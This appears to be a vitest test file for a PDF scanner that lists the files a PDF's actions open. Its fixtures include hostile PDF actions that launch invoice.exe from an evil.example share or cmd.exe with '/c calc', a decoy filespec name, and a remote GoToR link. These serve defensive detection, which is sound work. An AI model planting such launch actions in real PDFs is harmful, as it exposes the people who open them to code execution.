import { beforeAll, describe, expect, it } from 'vitest';
import { pdfFile, pdfObjects } from '../testing/index.js';
import type { ArchiveEntry } from './archive-entry.js';
import { eachPdfFile, loadPdfFiles } from './pdf-files.js';

beforeAll(loadPdfFiles);

const SHARE = '(\\\\\\\\evil.example\\\\s\\\\invoice.exe)';
// A one-page PDF: the catalog (with `catalog` added), its pages, the page (with `page` added), then `more`.
const pdf = (catalog: string, page = '', more: string[] = []) =>
  pdfObjects([
    { body: `<< /Type /Catalog /Pages 2 0 R ${catalog} >>` },
    { body: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' },
    { body: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] ${page} >>` },
    ...more.map((body) => ({ body })),
  ]);
const listed = (file: Buffer) => {
  const entries: ArchiveEntry[] = [];
  eachPdfFile(file, 1 << 24, (entry) => entries.push(entry));
  return entries;
};

describe('eachPdfFile: the files a PDF action opens', () => {
  it('lists an open action launching an executable on a share, inline or by reference', () => {
    expect(listed(pdf(`/OpenAction << /S /Launch /F ${SHARE} >>`))).toEqual([
      { name: 'invoice.exe', host: 'evil.example' },
    ]);
    expect(
      listed(
        pdf('/OpenAction 4 0 R', '', [
          `<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> /NewWindow true >>`,
        ]),
      ),
    ).toEqual([{ name: 'cmd.exe' }]);
  });
  it('lists a file specification dictionary by each of its names', () => {
    const spec = `<< /Type /Filespec /F (report.pdf) /UF (invoice.exe) >>`;
    expect(
      listed(pdf(`/OpenAction << /S /Launch /F ${spec} >>`))
        .map((e) => e.name)
        .sort(),
    ).toEqual(['invoice.exe', 'report.pdf']);
  });
  it("lists a page annotation's additional action and a link annotation's GoToR to a server as remote", () => {
    const aa = `/AA << /O << /S /Launch /F ${SHARE} >> >>`;
    expect(listed(pdf('', aa))).toEqual([{ name: 'invoice.exe', host: 'evil.example' }]);
    const link =
      '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F << /FS /URL /F (http://evil.example/doc.pdf) >> /D [0 /Fit] >> >>';
    expect(listed(pdf('', '/Annots [4 0 R]', [link]))).toEqual([
      { name: 'doc.pdf', remote: 'http://evil.example/doc.pdf' },
    ]);
  });
  it('lists a GoToE to another file, not one to a file this one embeds', () => {
    expect(
      listed(pdf('/OpenAction << /S /GoToE /F (\\\\\\\\h\\\\s\\\\a.pdf) /T << /R /C /N (x) >> >>')),
    ).toEqual([{ name: 'a.pdf', host: 'h' }]);
    expect(listed(pdf('/OpenAction << /S /GoToE /T << /R /C /N (x) >> >>'))).toEqual([]);
  });
  it('lists the file a /Thread, /ImportData or /SubmitForm action names by its /F (A51-11)', () => {
    expect(listed(pdf(`/OpenAction << /S /Thread /F ${SHARE} /D 0 >>`))).toEqual([
      { name: 'invoice.exe', host: 'evil.example' },
    ]);
    expect(listed(pdf('/OpenAction << /S /ImportData /F (\\\\\\\\h\\\\s\\\\data.fdf) >>'))).toEqual([
      { name: 'data.fdf', host: 'h', remote: '\\\\h\\s\\data.fdf' },
    ]);
    expect(
      listed(pdf('/OpenAction << /S /SubmitForm /F << /FS /URL /F (\\\\\\\\h\\\\s\\\\x) >> /Flags 4 >>')),
    ).toEqual([{ name: 'x', remote: 'http://\\\\h\\s\\x' }]);
    // Another action type with a file specification, by reference.
    expect(listed(pdf('/OpenAction 4 0 R', '', ['<< /S /Foo /F 5 0 R >>', `<< /F ${SHARE} >>`]))).toEqual([
      { name: 'invoice.exe', host: 'evil.example', remote: '\\\\evil.example\\s\\invoice.exe' },
    ]);
    expect(() => listed(pdf('/OpenAction << /S /ImportData /F 7 >>'))).toThrow(
      'a ImportData action whose target is not read',
    );
  });
  it('(control) lists nothing for a /Thread in this file, nor for a page label or transition', () => {
    expect(
      listed(pdf('/OpenAction << /S /Thread /D 0 >> /PageLabels << /Nums [0 << /S /D /St 1 >>] >>')),
    ).toEqual([]);
    expect(listed(pdf('', '/Trans << /S /Wipe /D 1 >>'))).toEqual([]);
  });
  it('throws for a launch whose target is not read', () => {
    expect(() => listed(pdf('/OpenAction << /S /Launch /Unix (x) >>'))).toThrow(
      'a Launch action whose target is not read',
    );
  });
  it('(control) lists nothing for URI and GoTo actions', () => {
    const link =
      '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://vendor.example/setup.exe) >> >>';
    expect(listed(pdf('/OpenAction [3 0 R /Fit]', '/Annots [4 0 R]', [link]))).toEqual([]);
    expect(listed(pdf('/OpenAction << /S /GoTo /D [3 0 R /Fit] >>'))).toEqual([]);
  });
  it('lists a password-protected PDF declaring a launch as an encrypted file', () => {
    const locked = pdfFile(['Payslip'], { userPassword: 'secret' });
    expect(listed(locked)).toEqual([]);
    const launching = Buffer.concat([locked, Buffer.from('99 0 obj\n<< /S /Launch /F (x) >>\nendobj\n')]);
    expect(listed(launching)).toEqual([{ name: 'files a password-protected PDF opens', encrypted: true }]);
  });
});
